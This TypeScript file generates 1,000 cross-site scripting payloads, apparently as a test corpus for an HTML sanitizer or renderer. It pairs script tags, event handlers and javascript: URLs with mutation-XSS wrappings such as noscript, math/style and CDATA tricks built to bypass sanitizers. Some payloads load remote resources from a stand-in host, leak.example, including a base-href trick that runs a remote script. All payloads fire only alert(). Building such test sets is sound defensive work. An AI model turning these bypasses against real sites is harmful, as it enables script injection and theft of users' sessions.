/** How many texts the family has. */
export const PAYLOAD_COUNT = 1_000;

const call = (index: number): string => `alert(${index})`;
const entities = (text: string): string =>
  [...text]
    .map((letter, index) => (index % 2 ? `&#x${letter.charCodeAt(0).toString(16)};` : `&#${letter.charCodeAt(0)}`))
    .join('');
const mixCase = (text: string): string =>
  [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');

/** Elements that run a script without a press, and addresses that run one when pressed. */
const CORES: readonly ((index: number) => string)[] = [
  (index) => `<script>${call(index)}</script>`,
  (index) => `<script src="data:text/javascript,${call(index)}"></script>`,
  (index) => `<scr<script>ipt>${call(index)}</script>`,
  (index) => `<img src=x onerror="${call(index)}">`,
  (index) => `<img src=x onerror="${entities(call(index))}">`,
  (index) => `<IMG/SRC=x/${mixCase('onerror')}=${call(index)}>`,
  (index) => `<img src='x'\tonerror\n=\n'${call(index)}'>`,
  (index) => `<img src=x onerror=${call(index)} `,
  (index) => `<img src="https://leak.example/${index}" onload=${call(index)}>`,
  (index) => `<svg onload=${call(index)}>`,
  (index) => `<svg/onload=${entities(call(index))}>`,
  (index) => `<svg><script>${entities(call(index))}</script></svg>`,
  (index) => `<svg><animate attributeName=x dur=1s onbegin=${call(index)} /></svg>`,
  (index) => `<svg><set attributeName=x dur=1s onbegin="${call(index)}" /></svg>`,
  (index) => `<svg><a xlink:href="javascript:${call(index)}"><text y=20>press</text></a></svg>`,
  (index) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call(index)}'/>#x"></use></svg>`,
  (index) => `<math><maction actiontype="statusline" xlink:href="javascript:${call(index)}">press</maction></math>`,
  (index) => `<a href="javascript:${call(index)}">press</a>`,
  (index) => `<a href="java&Tab;script&colon;${call(index)}">press</a>`,
  (index) => `<a href="&#1;${mixCase('javascript')}:${entities(call(index))}">press</a>`,
  (index) => `<a href="vbscript:${call(index)}">press</a>`,
  (index) => `<a href="data:text/html,<script>${call(index)}</script>">press</a>`,
  (index) => `<iframe src="javascript:parent.${call(index)}"></iframe>`,
  (index) => `<iframe srcdoc="<img src=x onerror=parent.${call(index)}>"></iframe>`,
  (index) => `<embed src="javascript:${call(index)}">`,
  (index) => `<object data="data:text/html,<script>parent.${call(index)}</script>"></object>`,
  (index) =>
    `<form action="javascript:${call(index)}"><button formaction="javascript:${call(index)}">press</button></form>`,
  (index) => `<input autofocus onfocus=${call(index)}>`,
  (index) => `<details open ontoggle=${call(index)}><summary>press</summary></details>`,
  (index) => `<video><source onerror="${call(index)}"></video>`,
  (index) => `<audio src=x onerror=${call(index)}></audio>`,
  (index) =>
    `<style>@keyframes k${index}{}</style><p style="animation:k${index} 1s" onanimationstart="${call(index)}">p</p>`,
  (index) => `<link rel=stylesheet href="https://leak.example/${index}.css" onerror=${call(index)}>`,
  (index) => `<body onload=${call(index)} onpageshow=${call(index)}>`,
  (index) => `<marquee onstart=${call(index)}>m</marquee>`,
  (index) => `<p onpointerenter=${call(index)} style="position:fixed;inset:0">p</p>`,
  (index) => `<base href="https://leak.example/"><script src="/${index}.js"></script>`,
  (index) => `<meta http-equiv="refresh" content="900;url=javascript:${call(index)}">`,
  (index) => `<div id="app"><template shadowrootmode="open"><img src=x onerror=${call(index)}></template></div>`,
  (index) => `{{constructor.constructor('${call(index)}')()}}\${${call(index)}}<%= ${call(index)} %>`,
];

/** Surroundings in which parsers disagree about where an element begins, or that close the surrounding element. */
const WRAPPINGS: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `"'><p>${core}</p>`,
  (core) => `<noscript><p title="</noscript>${core}"></noscript>`,
  (core) => `<math><mtext><table><mglyph><style><!--</style>${core}`,
  (core) => `<svg></p><style><a id="</style>${core}">`,
  (core) => `<form><math><mtext></form><form><mglyph><style></math>${core}`,
  (core) => `<math><annotation-xml encoding="text/html"><p>${core}</p></annotation-xml></math>`,
  (core) => `<svg><foreignObject><p>${core}</p></foreignObject></svg>`,
  (core) => `<svg><desc><![CDATA[</desc>${core}]]></svg>`,
  (core) => `<template>${core}</template>${core}`,
  (core) => `<textarea></textarea>${core}`,
  (core) => `<title></title>${core}`,
  (core) => `<xmp></xmp>${core}`,
  (core) => `<!--><p>--!>${core}`,
  (core) => `<select><option></select>${core}`,
  (core) => `<table><tr><td>${core}`,
  (core) => `<style><style/>${core}`,
  (core) => `<p title='${core.replaceAll("'", '&#39;')}'>p</p></p>${core}`,
  (core) => `&lt;p&gt;${core.replaceAll('<', '&lt;')}${core}`,
  (core) => `<b><i><a href="https://example.com">${core}</b></a></i>`,
  (core) => `<ul><li>${core}<ol></ul>`,
  (core) => `\u202e\ufeff${core}\u2028`,
  (core) => `<![if !IE]>${core}<![endif]>`,
  (core) => `<?xml version="1.0"?>${core}`,
  (core) => `<h1>${core}<h2></h1>`,
];

/** Ends whatever the text before leaves open, so that it does not hide the next one. */
const END = `-->"'></noscript></title></textarea></style></script></xmp></template></select></svg></math></table><hr>`;

/** The text of a number, which calls `alert` with the number if it runs. */
export function payloadOf(index: number): string {
  const core = CORES[index % CORES.length] ?? String;
  const wrap = WRAPPINGS[Math.floor(index / CORES.length) % WRAPPINGS.length] ?? String;
  return wrap(core(index));
}

/** The texts of numbers as one formatted text, which starts with a visible mark. */
export const joinPayloads = (mark: string, indexes: readonly number[]): string =>
  `<p>${mark}</p>${indexes.map((index) => payloadOf(index) + END).join('')}`;
